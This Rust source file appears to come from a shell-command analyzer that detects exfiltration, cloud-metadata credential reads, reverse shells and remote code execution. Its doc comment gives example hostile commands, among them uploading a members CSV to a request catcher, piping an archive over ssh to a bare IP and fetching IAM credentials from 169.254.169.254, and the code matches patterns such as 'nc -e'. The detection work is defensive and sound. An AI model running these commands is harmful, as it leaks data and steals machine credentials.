//! `shell/exfiltration`, `shell/remote_code`
//!
//! ## What it catches
//! - Uploads by `curl` (`-d @file`, `--data-binary @-`, `-T`, `-F f=@file`), `wget --post-file`,
//!   `nc`/`ncat`/`socat`/`telnet` fed from a pipe or file, `scp`/`rsync` to a remote host, and
//!   `ssh host` fed from a pipe — judged by what is sent (secrets → `egress.secret`; dumps,
//!   exports, archives → `data.export` and `egress.file_upload`) and where: the organisation's own
//!   hosts (policy `organization`), private and loopback addresses pass; request catchers, paste
//!   and file-drop sites, tunnels, bare public IPs and unknown hosts do not.
//! - Requests to cloud metadata endpoints (169.254.169.254 in any spelling,
//!   metadata.google.internal, fd00:ec2::254) → `credential.read`.
//! - `curl … | sh`, `wget -O- … | bash`, `bash <(curl …)`, `eval "$(curl …)"` → `exec.remote_code`
//!   (through the flow of downloaded content into a shell), and reverse shells (`nc -e /bin/sh`).
//! - Literal bodies and headers (`-d '{"token": "ghp_…"}'`, `-H 'X-Key: …'`, `echo … | curl -d @-`,
//!   `wget --post-data`) are scanned for secrets and personal data, and judged as the HTTP analyzer
//!   judges a request (`egress.secret`, `egress.pii`).
//!
//! ## Why it matters
//! Data that leaves cannot be called back; downloaded code runs with the caller's rights.
//!
//! ## Blocks
//! ```sh
//! curl --data-binary @/srv/exports/members.csv https://hookb.in/x
//! tar cz /srv/uploads | ssh guest@198.51.100.177 "cat > u.tgz"
//! wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/role
//! ```
//!
//! ## Passes
//! ```sh
//! curl -s https://api.github.com/repos/acme-corp/app/releases/latest
//! curl -X POST https://api.acme-corp.com/v1/ping -d '{"id":1}'
//! curl -LO https://go.dev/dl/go1.22.3.linux-amd64.tar.gz
//! ```
//!
//! ## Intents
//! `egress.secret`, `egress.pii`, `egress.file_upload`, `data.export`, `credential.read`, `exec.remote_code`

use crate::analyze::Detector;
use crate::fact::{Fact, Facts, Severity, Span, Target};
use crate::intent::Intent;

use super::super::unwrap::shell_quote;
use super::super::{nested, Flow, Invocation, ShellPolicy, ShellState};
use super::credentials::flow_of_file;
use crate::analyze::destination::{classify, host_of, Destinations, HostClass};
use crate::analyze::egress::{self, Receiver};
use crate::analyze::http;
use crate::analyze::payload::Scan;

pub(crate) const DETECTOR: Detector = Detector {
    id: "shell/exfiltration",
    intents: &[
        Intent::EgressSecret,
        Intent::EgressPii,
        Intent::EgressFileUpload,
        Intent::DataExport,
        Intent::CredentialRead,
    ],
    triggers: &["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "sftp", "ssh", "rclone"],
};

pub(crate) const REMOTE_CODE_DETECTOR: Detector = Detector {
    id: "shell/remote_code",
    intents: &[Intent::ExecRemoteCode],
    triggers: &[
        "curl", "wget", "nc", "ncat", "socat", "fetch", "pip", "pip3", "npm", "pnpm", "yarn", "gem", "croc", "wormhole",
    ],
};

/// Where code fetched from `url` comes from, when that is nowhere to trust: a request catcher,
/// a bare IP, or plain HTTP leaving the organisation (anyone on the path can swap it).
pub(crate) fn code_from_nowhere(url: &str, host: &str, destinations: &Destinations) -> Option<HostClass> {
    let class = classify(host, url, destinations);
    let untrusted =
        matches!(class, HostClass::Untrusted | HostClass::BareIp) || (url.starts_with("http://") && class.leaves());
    untrusted.then_some(class)
}

/// `pip install --index-url http://203.0.113.15/simple pkg`, `npm install http://x/p.tgz`: a
/// package's install code runs on the machine, so a package from a request catcher, a bare IP or
/// plain HTTP (anyone on the path can swap it) is code from nowhere. Registries and the
/// organisation's own indexes pass.
pub(crate) fn package_install(inv: &Invocation<'_>, name: &str, st: &ShellState<'_>, facts: &mut Facts) {
    let v = inv.values();
    let installs = v
        .iter()
        .skip(1)
        .find(|a| !a.starts_with('-'))
        .is_some_and(|verb| matches!(*verb, "install" | "i" | "add" | "update" | "upgrade" | "download"));
    if !installs {
        return;
    }
    let sources = v.iter().enumerate().skip(1).filter_map(|(i, a)| {
        if matches!(
            *a,
            "-i" | "--index-url" | "--extra-index-url" | "--registry" | "--source" | "-s" | "--find-links" | "-f"
        ) {
            v.get(i + 1).copied()
        } else if let Some((flag, value)) = a.split_once('=') {
            matches!(flag, "--index-url" | "--extra-index-url" | "--registry" | "--source" | "--find-links")
                .then_some(value)
        } else {
            (a.contains("://")).then_some(*a)
        }
    });
    for source in sources {
        let url = source.trim_start_matches("git+");
        let host = host_of(url);
        if let Some(class) = code_from_nowhere(url, &host, &st.policy.destinations) {
            facts.push(inv.fact(
                Intent::ExecRemoteCode,
                Severity::High,
                REMOTE_CODE_DETECTOR.id,
                Some(Target { kind: "location", name: url.to_owned() }),
                format!(
                    "`{name}` installs a package from `{url}`, {}: its install code runs here",
                    class.describe(&host)
                ),
            ));
            return;
        }
    }
}

/// In a cluster of short options (`-sT`), the first one that takes a value, and what follows it
/// in the same word.
fn short_cluster<'a>(v: &'a str, with_value: &[&str]) -> Option<(&'static str, &'a str)> {
    if !v.starts_with('-') || v.starts_with("--") || v.len() < 3 {
        return None;
    }
    for (k, c) in v.char_indices().skip(1) {
        let flag = format!("-{c}");
        if let Some(known) = with_value.iter().find(|f| **f == flag) {
            let known: &'static str = SHORT_FLAGS.iter().find(|s| *s == known).copied()?;
            return Some((known, &v[k + c.len_utf8()..]));
        }
    }
    None
}

/// curl's value-taking short options, as `'static` names for [`short_cluster`].
const SHORT_FLAGS: &[&str] = &[
    "-d", "-F", "-T", "-X", "-H", "-o", "-u", "-A", "-e", "-b", "-c", "-x", "-m", "-w", "-K", "-E", "-r", "-Y", "-y",
    "-z", "-U",
];

pub(crate) fn check(inv: &Invocation<'_>, name: &str, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    match name {
        "curl" => curl(inv, st, facts),
        "wget" => wget(inv, st, facts),
        "nc" | "ncat" | "netcat" | "telnet" | "socat" => {
            let v = inv.values();
            if v.iter().any(|a| {
                *a == "-e" || *a == "-c" || a.starts_with("EXEC:") || a.starts_with("SYSTEM:") || a.contains(",exec:")
            }) {
                facts.push(inv.fact(
                    Intent::ExecRemoteCode,
                    Severity::Critical,
                    REMOTE_CODE_DETECTOR.id,
                    None,
                    format!("`{name}` connects a shell to the network (a reverse shell)"),
                ));
            }
            let listening = v.iter().any(|a| *a == "-l" || a.starts_with("TCP-LISTEN") || a.starts_with("-l"));
            let host = if name == "socat" {
                v.iter()
                    .find_map(|a| a.strip_prefix("TCP:").or_else(|| a.strip_prefix("TCP4:")))
                    .map(host_of)
                    .unwrap_or_default()
            } else {
                v.iter().skip(1).find(|a| !a.starts_with('-')).map(|h| h.to_ascii_lowercase()).unwrap_or_default()
            };
            if !listening && !matches!(inv.stdin, Flow::Terminal) {
                send(inv, &host, &host, inv.stdin.clone(), st.policy, facts);
            }
            Flow::Unknown
        }
        // `sftp host` runs the batch commands it reads (`-b file`, `-b -` or standard input):
        // each `put` uploads a local file.
        "sftp" => {
            let v = inv.values();
            let with_value = ["-b", "-P", "-i", "-o", "-F", "-c", "-D", "-l", "-R", "-s", "-S", "-B", "-J", "-X"];
            let ops = super::infrastructure::operands(&v[1..], &with_value);
            let host = ops.first().map(|dest| host_of(dest.split(':').next().unwrap_or(dest)));
            let batch_from_stdin = inv.args.windows(2).any(|w| w[0].value == "-b" && w[1].value == "-")
                || !inv.args.iter().any(|a| a.value == "-b");
            if let (Some(host), true, Flow::Text(batch)) = (host, batch_from_stdin, &inv.stdin) {
                for line in batch.lines() {
                    let mut words = line.split_whitespace();
                    if let (Some("put" | "mput" | "reput"), Some(local)) = (words.next(), words.next()) {
                        send(inv, &host, &host, flow_of_path(local), st.policy, facts);
                    }
                }
            }
            Flow::Unknown
        }
        // Peer-to-peer senders: what they send goes through a public relay to whoever has the code.
        "croc" | "wormhole" if inv.args.get(1).is_some_and(|a| a.value == "send") => {
            let v = inv.values();
            let relay = if name == "croc" { "croc.schollz.com" } else { "relay.magic-wormhole.io" };
            for file in
                super::infrastructure::operands(&v[2..], &["--code", "-c", "--text", "--relay", "--transit-helper"])
            {
                send(inv, relay, relay, flow_of_path(file), st.policy, facts);
            }
            Flow::Unknown
        }
        "scp" | "rsync" => {
            let ops: Vec<&str> =
                inv.args.iter().skip(1).map(|a| a.value.as_str()).filter(|a| !a.starts_with('-')).collect();
            if let Some((dest, sources)) = ops.split_last() {
                if let Some((remote, _)) = dest.split_once(':').filter(|(h, _)| !h.contains('/')) {
                    let host = host_of(remote);
                    for s in sources {
                        send(inv, &host, dest, flow_of_path(s), st.policy, facts);
                    }
                }
            }
            Flow::Unknown
        }
        // `rclone copy /srv/exports gdrive:backup`: local files to a configured remote (a cloud
        // drive or bucket the engine cannot see), named as the destination.
        "rclone" => {
            let ops: Vec<&str> =
                inv.args.iter().skip(1).map(|a| a.value.as_str()).filter(|a| !a.starts_with('-')).collect();
            if let [verb, source, dest, ..] = ops.as_slice() {
                fn remote(p: &str) -> Option<&str> {
                    p.split_once(':').filter(|(n, _)| !n.is_empty() && !n.contains('/')).map(|(n, _)| n)
                }
                let uploads = matches!(*verb, "copy" | "copyto" | "sync" | "move" | "moveto");
                if let (true, None, Some(name)) = (uploads, remote(source), remote(dest)) {
                    let host = format!("{name}:");
                    send(inv, &host, dest, flow_of_path(source), st.policy, facts);
                }
            }
            Flow::Unknown
        }
        _ => Flow::Unknown,
    }
}

/// Judges data `flow` going to `host`.
fn send(inv: &Invocation<'_>, host: &str, url: &str, flow: Flow, policy: &ShellPolicy, facts: &mut Facts) {
    send_to(inv.report, host, url, flow, policy, facts);
}

/// Judges data `flow` written to a socket on `host` (`> /dev/tcp/host/port`).
pub(crate) fn send_flow(report: Span, host: &str, flow: Flow, policy: &ShellPolicy, facts: &mut Facts) {
    send_to(report, host, host, flow, policy, facts);
}

fn send_to(report: Span, host: &str, url: &str, flow: Flow, policy: &ShellPolicy, facts: &mut Facts) {
    let class = classify(host, url, &policy.destinations);
    if class == HostClass::Metadata || !class.leaves() {
        return;
    }
    let fact = |intent: Intent, severity: Severity, message: String| Fact {
        intent,
        severity,
        span: report,
        detector: DETECTOR.id,
        target: Some(Target { kind: "location", name: host.to_owned() }),
        message,
        location: None,
    };
    let where_ = class.describe(host);
    match flow {
        Flow::Secret(what) => {
            facts.push(fact(Intent::EgressSecret, Severity::Critical, format!("sends {what} to {where_}")))
        }
        Flow::Data(what) => {
            facts.push(fact(Intent::DataExport, Severity::High, format!("sends {what} to {where_}")));
            facts.push(fact(Intent::EgressFileUpload, Severity::High, format!("uploads {what} to {where_}")));
        }
        Flow::Unknown | Flow::Remote(_) => {
            let severity = if class == HostClass::Unknown { Severity::Medium } else { Severity::High };
            facts.push(fact(Intent::EgressFileUpload, severity, format!("uploads local content to {where_}")));
        }
        Flow::Text(text) => judge_literal(report, host, url, class, &[text.as_str()], &[], facts),
        Flow::Terminal => {}
    }
}

/// Literal request bodies and headers (`curl -d '…' -H '…'`, `echo … | curl -d @-`) scanned for
/// secrets and personal data, judged by where they go as the HTTP analyzer judges them.
fn judge_literal(
    report: Span,
    host: &str,
    url: &str,
    class: HostClass,
    bodies: &[&str],
    headers: &[&str],
    facts: &mut Facts,
) {
    let mut scan = Scan::default();
    for body in bodies {
        scan.text(body, "$", false);
    }
    for header in headers {
        let (name, value) = header.split_once(':').unwrap_or(("", header));
        scan.text(value.trim(), "$", http::is_auth_header(name.trim()));
    }
    let mut found = Facts::default();
    let receiver = Receiver::Host { host, class, auth_endpoint: http::is_auth_endpoint(&http::Url::parse(url)) };
    egress::judge(&scan, receiver, DETECTOR.id, &mut found);
    for mut fact in found.items {
        fact.span = report;
        fact.location = None;
        facts.push(fact);
    }
}

/// What a local path holds, for an upload.
pub(crate) fn flow_of_path(path: &str) -> Flow {
    let base = path.trim_end_matches('/').rsplit('/').next().unwrap_or(path);
    match flow_of_file(path) {
        // A whole directory tree (`scp -r /srv/uploads host:`) is bulk data; a single ordinary
        // file is of unknown sensitivity.
        Flow::Unknown if path.ends_with('/') || !base.contains('.') => Flow::Data(format!("the directory `{path}`")),
        other => other,
    }
}

fn metadata(inv: &Invocation<'_>, url: &str, facts: &mut Facts) {
    if crate::analyze::destination::metadata_reveals_no_secret(url) {
        return;
    }
    facts.push(inv.fact(
        Intent::CredentialRead,
        Severity::High,
        DETECTOR.id,
        Some(Target { kind: "location", name: url.to_owned() }),
        format!("requests `{url}`, a cloud metadata endpoint that hands out the machine's credentials"),
    ));
}

fn curl(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let with_value = [
        "-d",
        "--data",
        "--data-ascii",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--json",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "-X",
        "--request",
        "-H",
        "--header",
        "-o",
        "--output",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
        "-b",
        "--cookie",
        "-c",
        "--cookie-jar",
        "-x",
        "--proxy",
        "-m",
        "--max-time",
        "--connect-timeout",
        "-w",
        "--write-out",
        "-K",
        "--config",
        "--resolve",
        "--cacert",
        "--cert",
        "--key",
        "-E",
        "-r",
        "--range",
        "--retry",
        "-Y",
        "-y",
        "-z",
        "--url",
        "--interface",
        "--limit-rate",
        "-U",
        "--proxy-user",
        "--oauth2-bearer",
        "--output-dir",
        "--connect-to",
    ];
    let args = &inv.args;
    let mut urls: Vec<String> = Vec::new();
    let mut uploads: Vec<Flow> = Vec::new();
    let mut bodies: Vec<&str> = Vec::new();
    let mut headers: Vec<&str> = Vec::new();
    let mut to_file = false;
    let mut output: Option<&str> = None;
    let mut remote_name = false;
    let mut i = 1;
    while i < args.len() {
        let a = &args[i];
        let v = a.value.as_str();
        let (flag, value, value_arg, step) = if with_value.contains(&v) {
            (v, args.get(i + 1).map(|x| x.value.as_str()).unwrap_or(""), args.get(i + 1), 2)
        } else if let Some((f, val)) = v.split_once('=').filter(|(f, _)| f.starts_with("--") && with_value.contains(f))
        {
            (f, val, Some(a), 1)
        } else if let Some((flag, attached)) = short_cluster(v, &with_value) {
            // `-sT -`, `-sd@file`: the first value-taking flag of a cluster takes the rest or the next word.
            if attached.is_empty() {
                (flag, args.get(i + 1).map(|x| x.value.as_str()).unwrap_or(""), args.get(i + 1), 2)
            } else {
                (flag, attached, Some(a), 1)
            }
        } else {
            if v.starts_with('-') {
                if v == "-O"
                    || v == "--remote-name"
                    || v == "--remote-name-all"
                    || (v.starts_with('-') && !v.starts_with("--") && v.contains('O'))
                {
                    to_file = true;
                    remote_name = true;
                }
            } else {
                urls.push(v.to_owned());
            }
            i += 1;
            continue;
        };
        match flag {
            "-d" | "--data" | "--data-ascii" | "--data-binary" | "--data-urlencode" | "--json" => {
                if let Some(file) = value.strip_prefix('@') {
                    uploads.push(if file == "-" { inv.stdin.clone() } else { flow_of_path(file) });
                } else if let Some(arg) = value_arg.filter(|x| x.dynamic) {
                    uploads
                        .extend(inv.subst_flows.iter().filter(|(s, _)| arg.substs.contains(s)).map(|(_, f)| f.clone()));
                    // Its variables (`-d "token=$GH_TOKEN"`) are judged by their names.
                    bodies.push(value);
                } else {
                    bodies.push(value);
                }
            }
            "-F" | "--form" => {
                if let Some((_, file)) = value.split_once("=@").or_else(|| value.split_once("=<")) {
                    let file = file.split(';').next().unwrap_or(file);
                    uploads.push(if file == "-" { inv.stdin.clone() } else { flow_of_path(file) });
                } else {
                    bodies.push(value);
                }
            }
            "--form-string" | "--data-raw" => bodies.push(value),
            "-H" | "--header" => headers.push(value),
            "-T" | "--upload-file" => {
                uploads.push(if value == "-" || value == "." { inv.stdin.clone() } else { flow_of_path(value) })
            }
            "-o" | "--output" => {
                to_file = value != "-";
                output = Some(value);
            }
            "--output-dir" => to_file = true,
            "--url" => urls.push(value.to_owned()),
            _ => {}
        }
        i += step;
    }
    literal_payload(inv, &urls, &bodies, &headers, st, facts);
    variables_sent(inv, &urls, &bodies, &headers, st, facts);
    // `curl -o file URL`, `curl -O URL/name`: the file now holds the download.
    if let Some(url) = urls.first() {
        match (output, remote_name) {
            (Some(file), _) => st.downloaded(file, url),
            (None, true) => st.downloaded(url_file_name(url), url),
            _ => {}
        }
    }
    requests(inv, &urls, &uploads, !to_file, st, facts)
}

/// The name a download gets from its URL (`https://x/get/install.sh?v=2` → `install.sh`).
fn url_file_name(url: &str) -> &str {
    let path = url.split(['?', '#']).next().unwrap_or(url);
    path.rsplit('/').next().unwrap_or(path)
}

/// Judges literal bodies and headers sent to each URL.
fn literal_payload(
    inv: &Invocation<'_>,
    urls: &[String],
    bodies: &[&str],
    headers: &[&str],
    st: &ShellState<'_>,
    facts: &mut Facts,
) {
    if bodies.is_empty() && headers.is_empty() {
        return;
    }
    for url in urls {
        let host = host_of(url);
        let class = classify(&host, url, &st.policy.destinations);
        judge_literal(inv.report, &host, url, class, bodies, headers, facts);
    }
}

/// Secret environment variables expanded into a request (`curl "https://x/?k=$AWS_SECRET_ACCESS_KEY"`).
/// In an authorization header a secret is how a client signs in, normal use anywhere but a
/// catcher, paste site, tunnel or bare IP; in the URL or body it is sent as data, normal use only
/// for the service the variable is named after (`?access_token=$MAPBOX_TOKEN` to api.mapbox.com).
fn variables_sent(
    inv: &Invocation<'_>,
    urls: &[String],
    bodies: &[&str],
    headers: &[&str],
    st: &ShellState<'_>,
    facts: &mut Facts,
) {
    for url in urls {
        let host = host_of(url);
        let class = classify(&host, url, &st.policy.destinations);
        if class == HostClass::Metadata || !class.leaves() {
            continue;
        }
        let strict = matches!(class, HostClass::Untrusted | HostClass::BareIp);
        // The variables after the host: one that names the host itself sends nothing.
        let after_host = url.split_once("://").map_or(url.as_str(), |(_, rest)| rest);
        let after_host = after_host.find(['/', '?', '#']).map_or("", |at| &after_host[at..]);
        let mut sent: Vec<String> = std::iter::once(after_host)
            .chain(bodies.iter().copied())
            .flat_map(secret_variables)
            .filter(|v| strict || !names_service(v, &host))
            .collect();
        for header in headers {
            let (name, value) = header.split_once(':').unwrap_or(("", header));
            let signs_in = http::is_auth_header(name.trim());
            sent.extend(secret_variables(value).filter(|v| strict || (!signs_in && !names_service(v, &host))));
        }
        sent.sort();
        sent.dedup();
        for var in sent {
            send(inv, &host, url, Flow::Secret(format!("the secret variable `{var}`")), st.policy, facts);
        }
    }
}

/// `$NAME` and `${NAME}` in a text whose names say they hold a secret.
fn secret_variables(text: &str) -> impl Iterator<Item = String> + '_ {
    text.match_indices('$').filter_map(move |(at, _)| {
        let rest = text[at + 1..].strip_prefix('{').unwrap_or(&text[at + 1..]);
        let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(rest.len());
        let name = &rest[..end];
        names_a_secret(name).then(|| name.to_owned())
    })
}

/// Whether a variable's name says it holds a credential (`AWS_SECRET_ACCESS_KEY`, `GH_TOKEN`,
/// `DB_PASSWORD`, `DATABASE_URL`), not merely a setting (`API_URL`, `PWD`, `KEY_ID`). Stricter
/// than `credentials::secret_variable`, which errs the other way because it decides what a
/// `grep` of the environment may print.
pub(crate) fn names_a_secret(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    ["SECRET", "TOKEN", "PASSWORD", "PASSWD", "PASSPHRASE", "CREDENTIAL", "PRIVATE_KEY", "COOKIE", "SESSION", "DSN"]
        .iter()
        .any(|w| upper.contains(w))
        || upper.ends_with("_KEY")
        || upper.ends_with("APIKEY")
        || upper == "DATABASE_URL"
        || upper.ends_with("_PASS")
        || upper.ends_with("_PWD")
}

/// Whether the variable is named after the host's service (`STRIPE_SECRET_KEY`, api.stripe.com).
fn names_service(var: &str, host: &str) -> bool {
    let var = var.to_ascii_lowercase();
    let labels: Vec<&str> = host.split('.').collect();
    let name_labels = &labels[..labels.len().saturating_sub(1)];
    name_labels.iter().filter(|l| l.len() >= 3 && !matches!(**l, "api" | "www" | "app" | "com")).any(|l| {
        var.contains(*l)
            || (l.starts_with("amazonaws") && var.starts_with("aws"))
            || (*l == "githubusercontent" && var.contains("github"))
    })
}

fn wget(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let with_value = [
        "-O",
        "--output-document",
        "-o",
        "--output-file",
        "--post-file",
        "--body-file",
        "--post-data",
        "--body-data",
        "--header",
        "-U",
        "--user-agent",
        "-P",
        "--directory-prefix",
        "-e",
        "--method",
        "-t",
        "--tries",
        "-T",
        "--timeout",
    ];
    let args = &inv.args;
    let mut urls = Vec::new();
    let mut uploads = Vec::new();
    let mut bodies: Vec<&str> = Vec::new();
    let mut headers: Vec<&str> = Vec::new();
    let mut to_stdout = false;
    let mut output: Option<&str> = None;
    let mut i = 1;
    while i < args.len() {
        let v = args[i].value.as_str();
        let next = args.get(i + 1).map(|a| a.value.as_str()).unwrap_or("");
        if let Some((f, val)) = v.split_once('=').filter(|(f, _)| f.starts_with("--")) {
            match f {
                "--post-file" | "--body-file" => uploads.push(flow_of_path(val)),
                "--post-data" | "--body-data" => bodies.push(val),
                "--header" => headers.push(val),
                "--output-document" => {
                    to_stdout = val == "-";
                    output = Some(val);
                }
                _ => {}
            }
            i += 1;
            continue;
        }
        if with_value.contains(&v) {
            match v {
                "--post-file" | "--body-file" => uploads.push(flow_of_path(next)),
                "--post-data" | "--body-data" => bodies.push(next),
                "--header" => headers.push(next),
                "-O" | "--output-document" => {
                    to_stdout = next == "-";
                    output = Some(next);
                }
                _ => {}
            }
            i += 2;
            continue;
        }
        if v.starts_with('-') && !v.starts_with("--") {
            // Combined short options: `-qO-`, `-qO -`.
            if let Some(pos) = v.find('O') {
                let attached = &v[pos + 1..];
                if attached == "-" || (attached.is_empty() && next == "-") {
                    to_stdout = true;
                }
                if attached.is_empty() {
                    i += 1;
                }
            }
        } else if !v.starts_with('-') {
            urls.push(v.to_owned());
        }
        i += 1;
    }
    literal_payload(inv, &urls, &bodies, &headers, st, facts);
    variables_sent(inv, &urls, &bodies, &headers, st, facts);
    // `wget -O file URL`, or `wget URL`, which saves under the URL's file name.
    if let Some(url) = urls.first() {
        match output {
            Some(file) => st.downloaded(file, url),
            None if !to_stdout => st.downloaded(url_file_name(url), url),
            None => {}
        }
    }
    requests(inv, &urls, &uploads, to_stdout, st, facts)
}

/// Judges each request of a download tool; returns what it prints (the download, when it goes to
/// standard output).
fn requests(
    inv: &Invocation<'_>,
    urls: &[String],
    uploads: &[Flow],
    to_stdout: bool,
    st: &ShellState<'_>,
    facts: &mut Facts,
) -> Flow {
    for url in urls {
        let host = host_of(url);
        if classify(&host, url, &st.policy.destinations) == HostClass::Metadata {
            metadata(inv, url, facts);
        }
        for flow in uploads {
            send(inv, &host, url, flow.clone(), st.policy, facts);
        }
    }
    match (to_stdout, urls.first()) {
        (true, Some(url)) => Flow::Remote(url.clone()),
        _ => Flow::Unknown,
    }
}

/// `ssh [options] destination [command…]`: the remote command is analysed; what is piped in goes
/// to the destination.
pub(crate) fn ssh(inv: Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let with_value = [
        "-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-W", "-b", "-c", "-E", "-e", "-m", "-O", "-Q", "-S",
        "-w", "-B", "-I",
    ];
    let mut i = 1;
    while i < inv.args.len() && inv.args[i].value.starts_with('-') {
        i += if with_value.contains(&inv.args[i].value.as_str()) { 2 } else { 1 };
    }
    let Some(dest) = inv.args.get(i) else { return Flow::Unknown };
    let host = host_of(&dest.value);
    if !matches!(inv.stdin, Flow::Terminal) {
        send(&inv, &host, &dest.value, inv.stdin.clone(), st.policy, facts);
    }
    let remote: Vec<String> = inv.args[i + 1..]
        .iter()
        .map(|a| if inv.args.len() == i + 2 { a.value.clone() } else { shell_quote(&a.value) })
        .collect();
    if remote.is_empty() {
        return Flow::Unknown;
    }
    nested(&remote.join(" "), inv.report, st, facts)
}
